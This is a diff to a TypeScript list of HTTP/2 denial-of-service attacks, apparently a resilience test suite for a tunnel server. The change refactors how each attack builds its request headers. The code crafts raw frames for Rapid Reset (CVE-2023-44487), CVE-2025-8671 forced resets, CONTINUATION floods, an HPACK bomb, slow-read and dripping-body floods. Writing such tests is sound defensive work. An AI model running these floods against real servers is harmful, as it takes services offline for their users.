@@ -51,9 +51,9 @@ export const attacks: readonly Attack[] = [
     does: `${CONNECTIONS} connections: requests to another tunnel, each reset at once (CVE-2023-44487)`,
     isTls: true,
     prepare: scene => openBusy(scene),
-    attack: (target, ...rest) => {
-      const head = block({ ...target, honestHost: BUSY_HOST }, 'GET', '/bytes/1')
-      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+    attack: (...all) => {
+      const head = block(BUSY_HOST, 'GET', '/bytes/1')
+      return floods(CONNECTIONS, all, {}, stream => ({
         bytes: many(i =>
           Buffer.concat([
             frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head),
@@ -70,9 +70,9 @@ export const attacks: readonly Attack[] = [
     does: `${CONNECTIONS} connections: requests to another tunnel that the server has to reset (CVE-2025-8671)`,
     isTls: true,
     prepare: scene => openBusy(scene),
-    attack: (target, ...rest) => {
-      const head = block({ ...target, honestHost: BUSY_HOST }, 'GET', '/bytes/1')
-      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+    attack: (...all) => {
+      const head = block(BUSY_HOST, 'GET', '/bytes/1')
+      return floods(CONNECTIONS, all, {}, stream => ({
         bytes: many(i =>
           Buffer.concat([
             frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head),
@@ -92,7 +92,7 @@ export const attacks: readonly Attack[] = [
       const piece = frame(CONTINUATION, 0, 1, literal('x', 'y'.repeat(100)))
       return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
         bytes: Buffer.concat([
-          ...(stream === 1 ? [frame(HEADERS, END_STREAM, 1, block(target, 'GET', '/'))] : []),
+          ...(stream === 1 ? [frame(HEADERS, END_STREAM, 1, block(target.honestHost, 'GET', '/'))] : []),
           many(() => piece),
         ]),
         next: 3,
@@ -122,7 +122,9 @@ export const attacks: readonly Attack[] = [
     attack: (target, ...rest) =>
       floods(CONNECTIONS, [target, ...rest], {}, stream => ({
         bytes: Buffer.concat([
-          ...(stream === 1 ? [frame(HEADERS, END_HEADERS, 1, block(target, 'POST', '/echo'))] : []),
+          ...(stream === 1
+            ? [frame(HEADERS, END_HEADERS, 1, block(target.honestHost, 'POST', '/echo'))]
+            : []),
           many(() => frame(DATA, 0, 1)),
         ]),
         next: 3,
@@ -137,7 +139,7 @@ export const attacks: readonly Attack[] = [
     attack: (target, ...rest) => {
       // With indexing.
       const entry = Buffer.concat([Buffer.from([0x40]), text('b'), text('x'.repeat(3_900))])
-      const plain = block(target, 'GET', '/bytes/1')
+      const plain = block(target.honestHost, 'GET', '/bytes/1')
       const bomb = Buffer.concat([plain, Buffer.alloc(4_000, 0x80 | 62)])
       return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
         bytes: Buffer.concat(
@@ -162,13 +164,13 @@ export const attacks: readonly Attack[] = [
     // What visitors do not take waits at the server: `maxTokenBufferedBytes` is 512 MiB.
     bounds: { serverMb: 600 },
     prepare: scene => openBusy(scene),
-    attack: (target, ...rest) => {
+    attack: (...all) => {
       // The app streams answers of this size: shorter ones it keeps whole, and would be what gives in.
-      const head = block({ ...target, honestHost: BUSY_HOST }, 'GET', '/bytes/3000000')
+      const head = block(BUSY_HOST, 'GET', '/bytes/3000000')
       const windowOfOne = Buffer.concat([Buffer.from([0, 4]), u32(1)])
       return floods(
         CONNECTIONS,
-        [target, ...rest],
+        all,
         { settings: windowOfOne },
         stream => ({
           bytes:
@@ -186,11 +188,11 @@ export const attacks: readonly Attack[] = [
     does: `${CONNECTIONS} connections with 100 request bodies each, to another tunnel, that drip`,
     isTls: true,
     prepare: scene => openBusy(scene),
-    attack: (target, ...rest) => {
-      const head = block({ ...target, honestHost: BUSY_HOST }, 'POST', '/echo')
+    attack: (...all) => {
+      const head = block(BUSY_HOST, 'POST', '/echo')
       return floods(
         CONNECTIONS,
-        [target, ...rest],
+        all,
         {},
         stream => ({
           bytes:
@@ -208,9 +210,9 @@ export const attacks: readonly Attack[] = [
     does: `${CONNECTIONS} connections: requests to another tunnel without waiting for an answer, far more than may be under way`,
     isTls: true,
     prepare: scene => openBusy(scene),
-    attack: (target, ...rest) => {
-      const head = block({ ...target, honestHost: BUSY_HOST }, 'GET', `/bytes/1?${'x'.repeat(500)}`)
-      return floods(CONNECTIONS, [target, ...rest], {}, stream => ({
+    attack: (...all) => {
+      const head = block(BUSY_HOST, 'GET', `/bytes/1?${'x'.repeat(500)}`)
+      return floods(CONNECTIONS, all, {}, stream => ({
         bytes: many(i => frame(HEADERS, END_HEADERS | END_STREAM, stream + 2 * i, head)),
         next: stream + 2 * BATCH,
       }))
